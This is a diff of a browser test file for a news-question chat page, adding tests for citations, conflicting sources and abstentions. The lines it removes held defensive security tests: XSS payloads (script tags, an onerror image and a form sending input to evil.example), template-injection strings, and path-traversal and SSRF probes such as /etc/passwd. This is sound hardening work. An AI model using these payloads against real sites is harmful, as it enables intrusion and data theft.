@@ -1,142 +1,112 @@
-"""The real page, asked by a real browser and by bare HTTP, over the seeds and one article that tries all it can."""
+"""The chat in a real browser, over the seeds and the invented articles of ``page_articles``."""
 
-import http.client
-import json
-from collections.abc import Iterator
+from itertools import product
 from pathlib import Path
-from urllib.parse import urlsplit
 
 import pytest
-from page_server import DESKTOP, PHONE, VisitMaker, chat, chromium
-from playwright.sync_api import Browser, ViewportSize
+from page_server import DESKTOP, PHONE, Visit, VisitMaker
+from playwright.sync_api import ViewportSize, expect
 
-from vectorstore.embed import Encoder
-from vectorstore.ingest import ingest
+pytest_plugins = ["page_fixtures"]
+pytestmark = pytest.mark.browser
 
 SEEDS = Path(__file__).parent.parent / "seeds"
 ANSWERABLE = "How many people were killed in the Brussels bombings?"
+DIFFERING = "How many people died when the dam broke?"
 UNANSWERABLE = "Who won the chess tournament in Reykjavik?"
 
-SCRIPT = "<script>window.pwned=1</script>"
-IMAGE = '<img src="https://evil.example/x.png" onerror="window.pwned=1">'
-FORM = '<form action="https://evil.example/steal"><input name="q"></form>'
-LINK = '<a href="javascript:window.pwned=1">the dockers</a>'
-TEMPLATE = "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}}"
-HOSTILE = {
-    "id": "harbour",
-    "title": f"Harbour strike {SCRIPT}{IMAGE}",
-    "url": "javascript:window.pwned=1",
-    "publisher": f"Vellum Post {IMAGE}{FORM}",
-    "author": f"Mara {SCRIPT}{LINK}",
-    "section": f"{FORM}",
-    "published": "2024-05-03",
-    "text": f"The harbour strike in Port Vellum was ended on Friday by {LINK} and {IMAGE} after nine days of talks.\n\n"
-    f"{SCRIPT}{FORM}\n\nThe terminal reopened at dawn {TEMPLATE} with all cranes at work.",
-}
 
-
-@pytest.fixture(scope="module")
-def url(tmp_path_factory: pytest.TempPathFactory, encoder: Encoder) -> Iterator[str]:
-    """A page that found no store and made one from the seeds; the hostile article came while it was running.
-
-    It ends by Ctrl+C while a page still listens, and in all its life it logs nothing.
-    """
-    folder = tmp_path_factory.mktemp("browser")
-    hostile = folder / "hostile.jsonl"
-    hostile.write_text(json.dumps(HOSTILE))
-    with chat(folder / "store", folder / "chat.log") as served:
-        ingest([hostile], folder / "store", encoder=lambda: encoder)
-        yield served
-        listening = http.client.HTTPConnection(urlsplit(served).netloc, timeout=10)
-        listening.request("GET", "/gradio_api/heartbeat/open")
-        listening.getresponse()
-    listening.close()
-    assert (folder / "chat.log").read_text() == ""
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    with chromium() as launched:
-        yield launched
-
-
-@pytest.fixture
-def visits(browser: Browser, url: str) -> Iterator[VisitMaker]:
-    """Opens pages; in the end, none of them has asked another origin for anything, or run what an article holds."""
-    maker = VisitMaker(browser, url)
-    yield maker
-    for visit in maker.made:
-        assert visit.page.evaluate("window.pwned") is None
-        assert visit.mischief == []
-        visit.page.context.close()
-
-
-@pytest.mark.browser
 @pytest.mark.parametrize(("viewport", "scheme"), [(DESKTOP, "light"), (PHONE, "dark")], ids=["desktop", "phone"])
 def test_a_marker_opens_the_article_at_its_quote(visits: VisitMaker, viewport: ViewportSize, scheme: str):
-    """Asking gives a cited answer; [1] opens the whole article, its quote marked and in view, by mouse and by key."""
+    """[1] opens the whole article, its quote marked and in view, by mouse and key; the next source is a key away."""
     visit = visits(viewport, scheme)
+    page = visit.page
     visit.ask(ANSWERABLE)
     assert "31" in visit.read(".answer")
-    quote = visit.read(".turn .sources li:first-of-type blockquote")
+    quotes = page.locator(".turn .sources blockquote").all_text_contents()
+    assert page.get_attribute(".answer .marker >> nth=0", "href") == "#turn-1-source-1"
+    assert page.locator("#turn-1-source-1 blockquote").text_content() == quotes[0]
 
-    visit.page.click(".answer .marker >> nth=0")
-    visit.page.wait_for_selector("#article mark")
-    assert visit.read("#article mark") == quote
-    assert visit.read("#article .text") in {path.read_text() for path in SEEDS.glob("*.txt")}
-    mark, text = (visit.page.locator(f"#article {part}").bounding_box() for part in ("mark", ".text"))
+    page.click(".answer .marker >> nth=0")
+    page.wait_for_selector(".paper mark")
+    assert visit.read(".paper mark") == quotes[0]
+    assert visit.read(".paper .text") in {path.read_text() for path in SEEDS.glob("*.txt")}
+    mark, text = (page.locator(f".paper {part}").bounding_box() for part in ("mark", ".text"))
     assert mark
     assert text
     assert text["y"] <= mark["y"] < text["y"] + text["height"] / 2
-    assert visit.page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
+    assert page.evaluate("document.documentElement.scrollWidth") <= viewport["width"]
 
-    visit.page.keyboard.press("Escape")
-    visit.page.wait_for_selector("#article mark", state="detached")
-    visit.page.keyboard.press("Enter")  # the focus is back on the marker
-    visit.page.wait_for_selector("#article mark")
+    page.keyboard.press("ArrowRight")
+    expect(page.locator(".paper .which")).to_have_text("Source 2 of 3")
+    page.keyboard.press("Escape")
+    page.wait_for_selector(".paper", state="hidden")
+    page.keyboard.press("Enter")  # the focus is back on the marker
+    expect(page.locator(".paper .which")).to_have_text("Source 1 of 3")
 
 
-@pytest.mark.browser
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_the_page_follows_the_browsers_light_and_dark(visits: VisitMaker, scheme: str):
-    """A dark browser gets light ink on a dark page, a light one the reverse."""
-    page = visits(scheme=scheme).page
-    page.wait_for_selector("link[href='byline/page.css']", state="attached")
-    ink, paper = page.evaluate(
-        """() => [getComputedStyle(document.querySelector("#masthead")).color,
-                  getComputedStyle(document.body).backgroundColor]
-                 .map((colour) => colour.match(/[0-9.]+/g).slice(0, 3).map(Number).reduce((sum, part) => sum + part))"""
+@pytest.mark.parametrize(("viewport", "scheme"), [(DESKTOP, "dark"), (PHONE, "light")], ids=["desktop", "phone"])
+def test_articles_that_differ_are_set_against_each_other(visits: VisitMaker, viewport: ViewportSize, scheme: str):
+    """Each value has its support and its sentences with outlet and day; the timeline shows when which was said."""
+    visit = visits(viewport, scheme)
+    page = visit.page
+    record_order(visit)
+    visit.ask(DIFFERING)
+    assert page.evaluate("window.order") == ["passages", "answer"]
+    assert visit.read(".summary") == "2 of 4 articles: 12 · 2 differ"
+    assert "Where the articles differ" in visit.read(".evidence h3")
+    findings = page.locator(".finding").all_text_contents()
+    assert [value[:2] for value in findings] == ["12", "17"]
+    assert "2 of 4 articles" in findings[0]
+    assert "differs" not in findings[0]
+    assert "differs" in findings[1]
+    for shown in ("Northern Courier", "2 March 2024", "Dam at Arvenholt fails", "Police said 12 people died"):
+        assert shown in findings[0]
+    assert page.locator(".finding mark").all_text_contents() == ["12", "12", "17", "17"]
+    times = [" ".join(entry.split()) for entry in page.locator(".timeline li").all_inner_texts()]
+    assert times[0] == "2 March 2024 12 Northern Courier [1]"
+    assert times[1] == "1 day later"
+    assert times[-1] == "19 April 2024 17 Northern Courier [4]"
+    assert "More likely right than wrong (" in visit.read(".confidence summary")
+
+    page.click(".finding.against blockquote >> nth=0")
+    page.wait_for_selector(".paper mark")
+    assert "17" in visit.read(".paper mark")
+    assert "Daily Ledger" in visit.read(".paper .meta")
+    assert visit.read(".paper .url a") == "https://news.example/arvenholt/3"
+    assert page.get_attribute(".paper .url a", "rel") == "noopener noreferrer"
+
+
+def record_order(visit: Visit) -> None:
+    """Note in the page what comes first, the passages being read or the answer."""
+    visit.page.evaluate(
+        """() => {
+            window.order = [];
+            const note = (name, selector) => {
+                if (document.querySelector(selector) && !window.order.includes(name)) window.order.push(name);
+            };
+            const look = () => { note("passages", ".unread li"); note("answer", ".turn .answer"); };
+            new MutationObserver(look).observe(document.body, { childList: true, subtree: true });
+        }"""
     )
-    assert (ink > 600, paper > 600) == ((True, False) if scheme == "dark" else (False, True))
 
 
-@pytest.mark.browser
-def test_what_an_article_plants_stays_text(visits: VisitMaker):
-    """Scripts, images, forms and links in a title, body, URL, publisher and author are shown, not obeyed."""
+def test_no_answer_says_why_and_shows_what_is_nearest(visits: VisitMaker):
+    """An abstention gives its reason with the number, no confidence, and the nearest sentences, which open."""
     visit = visits()
-    visit.ask("Who ended the harbour strike in Port Vellum?")
-    visit.page.click(".turn .source >> nth=0")
-    visit.page.wait_for_selector("#article mark")
-    opened = visit.read("#article")
-    for field in ("title", "url", "publisher", "author", "section"):
-        assert HOSTILE[field] in opened
-    assert visit.read("#article .text") == HOSTILE["text"]
-    assert HOSTILE["title"] in visit.read(".sources")
-    planted = "#conversation :is(script, img, form, input, a), #article :is(script, img, form, input, a)"
-    assert visit.page.locator(planted).count() == 0
+    visit.ask(UNANSWERABLE)
+    assert "articles do not say" in visit.read(".answer.abstained")
+    assert "Byline answers from 12\u00a0% on" in visit.read(".why")
+    assert visit.page.locator(".facts").count() == 0
+    assert visit.read(".evidence h3") == "Nearest passages"
+    visit.page.click(".nearest .byline >> nth=0")
+    visit.page.wait_for_selector(".paper mark")
+
+    visit.ask("How many people died in the Arvenholt flood according to the Daily Ledger?")
+    assert "Daily Ledger" in visit.read(".scope")
+    assert visit.page.locator(".turn").last.locator(".summary").count() == 0  # one article has no support to count
 
 
-@pytest.mark.browser
-def test_what_a_question_plants_stays_text(visits: VisitMaker):
-    """The same holds for the question, answered and refused."""
-    visit = visits()
-    for question in (f"Who resigned? {SCRIPT}{IMAGE}{FORM}{LINK}{TEMPLATE}", SCRIPT + IMAGE * 40):
-        visit.ask(question)
-        assert question[:100] in visit.read(".question")
-        assert visit.page.locator("#conversation :is(script, img, form, input, a)").count() == 0
-
-
-@pytest.mark.browser
 def test_a_question_that_cannot_be_asked_says_why(visits: VisitMaker):
     """Empty, too long and absurdly long questions get one clear line, stay to be corrected, and the page goes on."""
     visit = visits()
@@ -145,128 +115,134 @@ def test_a_question_that_cannot_be_asked_says_why(visits: VisitMaker):
     visit.ask("x" * 2001)
     assert "2,001" in visit.read(".error")
     assert visit.page.input_value("#question textarea") == "x" * 2001
-    visit.ask("x" * 1_000_000)
-    assert "1,000,000" in visit.read(".error")
+    visit.ask("x" * 100_000)
+    assert "100,000" in visit.read(".error")
     visit.ask(ANSWERABLE)
     assert visit.page.locator(".error").count() == 0
+    assert visit.page.input_value("#question textarea") == ""
     assert "31" in visit.read(".answer")
 
 
-@pytest.mark.browser
-def test_an_unanswerable_question_is_declined(visits: VisitMaker):
-    """The page says plainly that the articles do not say, and gives no confidence in an answer."""
+def test_an_answer_can_be_stopped_tried_again_edited_and_copied(visits: VisitMaker):
+    """Escape stops it; the question can be asked again or changed in its place; the copy carries its citations."""
     visit = visits()
-    visit.ask(UNANSWERABLE)
-    assert "articles do not say" in visit.read(".answer.abstained")
-    assert visit.page.locator(".facts").count() == 0
+    page = visit.page
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
+    page.route("**/call/ask/*", lambda _: None)  # the answer never comes
+    page.fill("#question textarea", DIFFERING)
+    page.press("#question textarea", "Enter")
+    page.wait_for_selector("#question button:text-is('Stop')")
+    page.keyboard.press("Escape")
+    page.wait_for_selector(".stopped")
+    page.unroute("**/call/ask/*")
+    page.click("text=Try again")
+    visit.answered()
+    assert "12" in visit.read(".answer")
+
+    page.focus("#question textarea")
+    page.keyboard.press("ArrowUp")
+    assert page.input_value(".correction textarea") == DIFFERING
+    page.fill(".correction textarea", "Who is Olav Brandt?")
+    page.keyboard.press("Enter")
+    visit.answered()
+    assert page.locator(".turn").count() == 1
+    assert visit.read(".question") == "Who is Olav Brandt?"
+
+    page.click("text=Copy answer")
+    expect(page.locator(".notice")).to_contain_text("Copied.")
+    copied = page.evaluate("navigator.clipboard.readText()")
+    assert "[1] “Inspector Olav Brandt said the valves had not been opened since 2019.” (Northern Courier, " in copied
+    assert "https://news.example/arvenholt/4" in copied
 
 
-@pytest.mark.browser
+def test_a_server_that_is_gone_or_busy_is_named(visits: VisitMaker):
+    """The page says what happened in a line and asks again when told to."""
+    visit = visits()
+    page = visit.page
+    page.context.set_offline(True)
+    visit.ask(ANSWERABLE)
+    assert "Byline does not answer" in visit.read(".error")
+    page.context.set_offline(False)
+    page.route("**/call/ask", lambda route: route.fulfill(status=503))
+    page.click("text=Try again")
+    expect(page.locator(".error")).to_contain_text("busy")
+    page.unroute("**/call/ask")
+    page.click("text=Try again")
+    page.wait_for_selector(".answer")
+    noticed = [one for one in visit.mischief if "ERR_INTERNET_DISCONNECTED" in one or "503" in one]
+    assert noticed == visit.mischief
+    visit.mischief.clear()
+
+
+def test_a_follow_up_shows_how_it_was_read_and_can_be_corrected(visits: VisitMaker):
+    """It is read with its own conversation only; one click asks it literally, another corrects the reading."""
+    first, second = visits(), visits()
+    first.ask("Who is Jan Jambon?")
+    first.ask("When did he offer to resign?")
+    assert "Jambon" in first.read(".read-as q")
+    assert second.page.locator(".turn").count() == 0
+    second.ask("When did he offer to resign?")
+    assert second.page.locator(".read-as").count() == 0
+    assert second.page.locator(".turn").count() == 1
+    assert "Jambon?" not in second.page.inner_text(".rail")
+
+    first.page.click("text=Take it literally")
+    first.answered()
+    assert first.page.locator(".read-as").count() == 0
+    first.page.click(".turn:last-child >> text=Edit question")
+    first.page.fill(".correction textarea", "And when was he born?")
+    first.page.keyboard.press("Enter")
+    first.answered()
+    first.page.click("text=Correct")
+    first.page.fill(".correction textarea", "When did Koen Geens offer to resign?")
+    first.page.keyboard.press("Enter")
+    first.answered()
+    assert first.read(".question") == "When did Koen Geens offer to resign?"
+    assert first.page.locator(".read-as").count() == 0
+    assert first.page.locator(".turn").count() == 2
+
+    first.page.reload()
+    first.page.wait_for_selector(".turn")
+    assert first.page.locator(".question").all_text_contents() == [
+        "Who is Jan Jambon?",
+        "When did Koen Geens offer to resign?",
+    ]
+
+
+def test_filters_show_as_chips_and_limit_the_answer(visits: VisitMaker):
+    """Each filter is a chip that one click removes; the answer comes from what passes and says so."""
+    visit = visits()
+    page = visit.page
+    page.evaluate(
+        """import("/byline/filters.js").then(({ setFilters }) =>
+            setFilters({ publishers: ["Daily Ledger"], after: "2024-03-01" }))"""
+    )
+    assert page.locator(".chips li span").all_text_contents() == ["Daily Ledger", "from 1 March 2024"]
+    visit.ask(DIFFERING)
+    assert visit.read(".scope") == "Asked only of: Daily Ledger, from 1 March 2024"
+    assert set(page.locator(".sources .outlet").all_text_contents()) == {"Daily Ledger"}
+    assert "12" not in visit.read(".answer")
+    page.click("[aria-label='Remove the filter: Daily Ledger']")
+    page.click("[aria-label='Remove the filter: from 1 March 2024']")
+    assert not page.locator(".chips").is_visible()
+    visit.ask(DIFFERING)
+    assert visit.read(".summary") == "2 of 4 articles: 12 · 2 differ"
+
+
 def test_a_suggested_question_is_answered(visits: VisitMaker):
     """The page offers questions, and the one that is clicked gets an answer with a source."""
     visit = visits()
     offered = visit.page.locator(".suggestion").first
     question = offered.text_content()
     offered.click()
-    visit.page.wait_for_selector(".turn[aria-busy=false] .sources")
+    visit.page.wait_for_selector(".finding .sources")
     assert visit.read(".question") == question
     assert visit.page.locator(".abstained").count() == 0
 
 
-@pytest.mark.browser
-def test_a_follow_up_is_read_with_its_own_conversation_only(visits: VisitMaker):
-    """A follow-up shows how it was read; another visitor's page knows nothing of it, nor does a new conversation."""
-    first, second = visits(), visits()
-    first.ask("Who is Jan Jambon?")
-    first.ask("When did he offer to resign?")
-    assert "Jambon" in first.read(".read-as")
-    assert second.page.locator(".turn").count() == 0
-    second.ask("When did he offer to resign?")
-    assert second.page.locator(".read-as").count() == 0
-
-    first.page.click("[data-restart]")
-    first.page.wait_for_selector(".empty")
-    first.ask("When did he offer to resign?")
-    assert first.page.locator(".read-as").count() == 0
-    assert second.page.locator(".turn").count() == 1
-
-
-def fetch(url: str, path: str, method: str = "GET", **more: dict[str, str] | str) -> http.client.HTTPResponse:
-    """Send ``path`` as it is, without any encoding or tidying."""
-    parts = urlsplit(url)
-    connection = http.client.HTTPConnection(parts.hostname or "", parts.port, timeout=10)
-    connection.request(method, path, **more)
-    response = connection.getresponse()
-    response.body = response.read()
-    connection.close()
-    return response
-
-
-def test_every_response_carries_the_security_headers(url: str):
-    """The page, its files and its refusals are locked to this origin; each page has its own nonce."""
-    for path in ("/", "/byline/page.css", "/no-such-page"):
-        response = fetch(url, path)
-        policy = response.headers["Content-Security-Policy"]
-        assert "default-src 'none'" in policy
-        assert "frame-ancestors 'none'" in policy
-        assert "'unsafe-inline'" not in policy.split("style-src")[0]
-        assert "http" not in policy
-        assert response.headers["X-Frame-Options"] == "DENY"
-        assert response.headers["X-Content-Type-Options"] == "nosniff"
-        assert response.headers["Referrer-Policy"] == "no-referrer"
-    first, second = (fetch(url, "/").headers["Content-Security-Policy"] for _ in range(2))
-    assert first != second
-
-
-TARGET = "https://evil.example/x"
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
-        f"/gradio_api/file={TARGET}",
-        f"/gradio_api/file%3D{TARGET}",
-        f"/gradio_api/%66ile={TARGET}",
-        f"/gradio_api/%2566ile={TARGET}",
-        f"/gradio_api//file={TARGET}",
-        f"/gradio%5Fapi/file={TARGET}",
-        f"/gradio_api%2Ffile={TARGET}",
-        f"//gradio_api/file={TARGET}",
-        f"/assets/../gradio_api/file={TARGET}",
-        f"/assets/%2e%2e/gradio_api/file={TARGET}",
-        "/gradio_api/file=http%3A%2F%2F127.0.0.1%3A22",
-        "/gradio_api/file=/etc/passwd",
-        "/gradio_api/file/etc/passwd",
-        f"/file={TARGET}",
-        f"/gradio_api/proxy={TARGET}",
-        f"/proxy={TARGET}",
-        "/byline/%2e%2e/page.py",
-        "/byline/../page.py",
-        "/gradio_api/info",
-        "/gradio_api/upload",
-        "/gradio_api/runs",
-        "/monitoring",
-    ],
-)
-def test_nothing_but_the_page_is_served(url: str, path: str):
-    """What would fetch a URL, read a file or show Gradio's other pages is refused in every spelling."""
-    for method in ("GET", "HEAD", "POST"):
-        assert fetch(url, path, method).status in {400, 403, 404, 405}
-
-
-def test_a_file_smuggled_into_an_event_is_refused(url: str):
-    """Gradio would fetch the URL of a file object in any event's data; the guard lets none through."""
-    file = {"path": TARGET, "meta": {"_type": "gradio.FileData"}}
-    event = json.dumps({"data": [[{"deep": file}], None], "fn_index": 0, "session_hash": "x"})
-    response = fetch(url, "/gradio_api/queue/join", "POST", body=event, headers={"Content-Type": "application/json"})
-    assert (response.status, response.body) == (400, b"The page takes no files.")
-
-
-def test_other_sites_cannot_use_the_page(url: str):
-    """A name that was rebound to this machine is refused, and so is a request that another site's page sends."""
-    assert fetch(url, "/", headers={"Host": "evil.example"}).status == 421
-    assert fetch(url, "/", headers={"Host": "127.0.0.1.evil.example"}).status == 421
-    headers = {"Origin": "https://evil.example", "Content-Type": "application/json"}
-    assert fetch(url, "/gradio_api/queue/join", "POST", body="{}", headers=headers).status == 403
-    big = fetch(url, "/gradio_api/queue/join", "POST", body='"' + "x" * 4_000_001 + '"')
-    assert big.status == 413
+def test_an_answer_keeps_every_character(visits: VisitMaker):
+    """Cut at its markers and joined again, any text is the same; only whole markers become links."""
+    texts = ["".join(cut) for length in range(6) for cut in product("a[1] ", repeat=length)]
+    cuts = visits().page.evaluate("texts => import('/byline/dom.js').then(({ marked }) => texts.map(marked))", texts)
+    assert ["".join(part for part, _ in cut) for cut in cuts] == texts
+    assert all((marker is None) == (part not in {"[1]", "[11]", "[111]"}) for cut in cuts for part, marker in cut)
